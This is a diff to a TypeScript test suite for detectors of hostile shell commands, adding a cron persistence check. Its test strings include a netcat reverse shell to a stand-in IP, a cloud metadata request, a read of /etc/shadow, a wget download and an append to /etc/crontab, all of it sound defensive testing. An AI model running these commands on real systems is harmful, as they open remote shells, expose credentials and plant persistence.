@@ -4,6 +4,7 @@ import { actingText } from '../../../shared/detection/command.ts';
 import { credentialsIn } from '../../../shared/detection/credential-paths.ts';
 import { downloadIn } from '../../../shared/detection/download.ts';
 import { minerIn } from '../../../shared/detection/miner.ts';
+import { persistenceIn } from '../../../shared/detection/persistence.ts';
 import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';
 
 describe('hostile command lines', () => {
@@ -53,6 +54,14 @@ describe('hostile command lines', () => {
     'a=a;$a ',
     '\\x41',
     "$'\\101'",
+    'ls|',
+    'ls $(ls) ',
+    '1.',
+    '0x1 ',
+    'a:',
+    '>/etc/',
+    'systemctl -a ',
+    'crontab -u a ',
   ];
   const LONG = 60 * 1024;
 
@@ -64,6 +73,7 @@ describe('hostile command lines', () => {
       assert.notEqual(reverseShellIn(`${padding}\nnc -e /bin/sh 203.0.113.9 4444`), undefined);
       assert.notEqual(metadataIn(`${padding}\ncurl 169.254.169.254/`), undefined);
       assert.notEqual(credentialsIn(`${padding}\ncat /etc/shadow`), undefined);
+      assert.notEqual(persistenceIn(`${padding}\necho a >> /etc/crontab`), undefined);
       assert.notEqual(downloadIn(`${padding}\nwget http://203.0.113.9/x`), undefined);
     });
   }
